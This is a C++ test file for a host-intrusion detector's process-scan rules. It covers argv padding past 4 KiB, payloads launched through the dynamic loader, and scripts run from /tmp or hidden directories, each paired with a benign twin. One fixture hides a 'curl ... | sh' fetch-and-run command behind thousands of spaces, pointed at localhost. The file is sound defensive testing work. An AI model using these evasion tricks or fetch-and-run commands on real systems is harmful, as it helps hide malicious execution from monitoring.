// Live tests of issue 17's exec-side blind spots, scan path (no root): an
// argument vector padded past the real-time capture bound, a payload run
// through the dynamic loader, a script run by a trusted interpreter from a
// writable place. Each attack is reproduced as the issue writes it with real
// processes, scanned with the real procmond and judged by the real rule;
// each has a benign twin. The real-time (exec event) side of the same cases
// is in rules_blindspots_exec_privileged_test.cc.
#include <unistd.h>

#include <filesystem>
#include <string>
#include <vector>

#include "sentinel/testing/temp_dir.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

pid_t ChildNamed(pid_t parent, const std::string& comm) {
  auto child = WaitForChild(parent, [&](const std::string& c) { return c == comm; });
  EXPECT_TRUE(child.has_value()) << "no child " << comm << " of " << parent;
  return child.value_or(-1);
}

// ---------------------------------------------------------------------------
// Case 2: argv padded past 4 KiB. The scan reads the whole of
// /proc/PID/cmdline, so the command after the padding is seen.

TEST_F(RuleLiveTest, ArgvPaddedPast4KiBDownloadAndExecuteOnAScan) {
  const std::string pad(4200, ' ');
  auto p = TestProcess::Start(SystemBinary("bash"),
                              {"bash", "-c", pad + "curl -fsSL http://127.0.0.1:9/x | sh; sleep 1000; true"});
  auto benign = TestProcess::Start(
      SystemBinary("bash"),
      {"bash", "-c", pad + "curl -fsS -o /dev/null http://127.0.0.1:9/x | sha256sum; sleep 1000; true"});
  ASSERT_TRUE(p && benign);
  ChildNamed(p->pid(), "sleep");
  ChildNamed(benign->pid(), "sleep");
  auto r = ScanAndRun("proc-download-and-execute");
  ExpectOneRow(r, p->pid());
  ExpectNoRows(r, {benign->pid()});
}

// ---------------------------------------------------------------------------
// proc-argv-padding (case 2): the padding itself, wherever the command sits.

TEST_F(RuleLiveTest, ProcArgvPadding_Positive) {
  const std::string pad(4200, ' ');
  auto p = TestProcess::Start(SystemBinary("bash"), {"bash", "-c", pad + "sleep 1000; true" + pad + "#"});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sleep");
  auto row = ExpectOneRow(ScanAndRun("proc-argv-padding"), p->pid());
  EXPECT_EQ(row.value("source", ""), "scan") << row.dump();
}

TEST_F(RuleLiveTest, ProcArgvPadding_Negative) {
  // A long argv of ordinary words (a compiler or a classpath), and a short
  // one with a few blanks.
  std::vector<std::string> words{"sleep", "1000"};
  for (int i = 0; i < 600; ++i) words.push_back("--opt" + std::to_string(i));
  auto sh = TestProcess::Start(SystemBinary("bash"), {"bash", "-c", "sleep 1000; true", "x", "a    b"});
  auto many = TestProcess::Start(ProbeBin(), words);
  ASSERT_TRUE(sh && many);
  ChildNamed(sh->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-argv-padding"), {sh->pid(), many->pid()});
}

// ---------------------------------------------------------------------------
// proc-loader-direct-exec (case 5): /lib64/ld-linux-x86-64.so.2 /tmp/x

TEST_F(RuleLiveTest, ProcLoaderDirectExec_Positive) {
  const std::string ld = ProgramInterpreter();
  if (ld.empty()) GTEST_SKIP() << "no known program interpreter on this machine";
  const std::string payload = work().File("x");
  CopyExecutable(SystemBinary("sleep"), payload);
  auto p = TestProcess::Start(ld, {ld, payload, "1000"});
  ASSERT_NE(p, nullptr);
  auto row = ExpectOneRow(ScanAndRun("proc-loader-direct-exec"), p->pid());
  EXPECT_EQ(row.value("loaded_object", ""), payload) << row.dump();
  EXPECT_EQ(row.value("source", ""), "scan") << row.dump();
}

TEST_F(RuleLiveTest, ProcLoaderDirectExec_Negative) {
  const std::string ld = ProgramInterpreter();
  if (ld.empty()) GTEST_SKIP() << "no known program interpreter on this machine";
  // A system program run through the loader (as some launchers do), and a
  // program in a plain directory whose first argument is a /tmp path.
  ScratchDir plain(PlainDirectory());
  ASSERT_TRUE(plain.ok());
  const std::string tool = plain.File("tool");
  CopyExecutable(SystemBinary("sleep"), tool);
  auto system = TestProcess::Start(ld, {ld, SystemBinary("sleep"), "1000"});
  auto local = TestProcess::Start(ld, {ld, "--argv0", work().File("x"), tool, "1000"});
  ASSERT_TRUE(system && local);
  ExpectNoRows(ScanAndRun("proc-loader-direct-exec"), {system->pid(), local->pid()});
}

// ---------------------------------------------------------------------------
// proc-script-from-writable-dir (case 5): a #!/bin/sh script from /tmp, and
// `sh /tmp/x`.

TEST_F(RuleLiveTest, ProcScriptFromWritableDir_Positive) {
  const std::string script = work().File("x.sh");
  testing::WriteFile(script, "#!/bin/sh\nsleep 1000\nexit 0\n");
  ASSERT_EQ(::chmod(script.c_str(), 0755), 0);
  auto direct = TestProcess::Start(script, {script});
  auto via_sh = TestProcess::Start("/bin/sh", {"sh", "-e", script});
  ASSERT_TRUE(direct && via_sh);
  ChildNamed(direct->pid(), "sleep");
  ChildNamed(via_sh->pid(), "sleep");
  auto r = ScanAndRun("proc-script-from-writable-dir");
  for (pid_t pid : {direct->pid(), via_sh->pid()}) {
    auto row = ExpectOneRow(r, pid);
    EXPECT_EQ(row.value("script", ""), script) << row.dump();
  }
}

TEST_F(RuleLiveTest, ProcScriptFromWritableDir_Negative) {
  // The same script from a plain directory, a command string that only
  // names a /tmp path, and scripts that live in the hidden directories of a
  // version manager (pyenv runs its bash hooks for every `python3`) and of a
  // repository's hooks.
  ScratchDir plain(PlainDirectory());
  ASSERT_TRUE(plain.ok());
  const std::string script = plain.File("ok.sh");
  const std::string pyenv = plain.File(".pyenv/libexec/pyenv-hooks");
  const std::string hook = plain.File("repo/.git/hooks/pre-commit");
  for (const std::string& f : {script, pyenv, hook}) {
    std::filesystem::create_directories(std::filesystem::path(f).parent_path());
    testing::WriteFile(f, "#!/bin/sh\nsleep 1000\nexit 0\n");
    ASSERT_EQ(::chmod(f.c_str(), 0755), 0);
  }
  auto direct = TestProcess::Start(script, {script});
  auto command =
      TestProcess::Start("/bin/sh", {"sh", "-c", "sleep 1000; cat " + work().File("x.sh") + "; exit 0"});
  auto tool = TestProcess::Start("/bin/bash", {"bash", pyenv, "which"});
  auto git_hook = TestProcess::Start(hook, {hook});
  ASSERT_TRUE(direct && command && tool && git_hook);
  for (auto* p : {&direct, &command, &tool, &git_hook}) ChildNamed((*p)->pid(), "sleep");
  ExpectNoRows(ScanAndRun("proc-script-from-writable-dir"),
               {direct->pid(), command->pid(), tool->pid(), git_hook->pid()});
}

// A hidden directory that no known tool owns is still a hiding place.
TEST_F(RuleLiveTest, ProcScriptFromWritableDirHiddenDirectory) {
  ScratchDir plain(PlainDirectory());
  ASSERT_TRUE(plain.ok());
  const std::string script = plain.File(".cache/.u/run.sh");
  std::filesystem::create_directories(std::filesystem::path(script).parent_path());
  testing::WriteFile(script, "#!/bin/sh\nsleep 1000\nexit 0\n");
  ASSERT_EQ(::chmod(script.c_str(), 0755), 0);
  auto p = TestProcess::Start("/bin/bash", {"bash", script});
  ASSERT_NE(p, nullptr);
  ChildNamed(p->pid(), "sleep");
  EXPECT_EQ(ExpectOneRow(ScanAndRun("proc-script-from-writable-dir"), p->pid()).value("script", ""), script);
}

}  // namespace
}  // namespace sentinel::rules_test
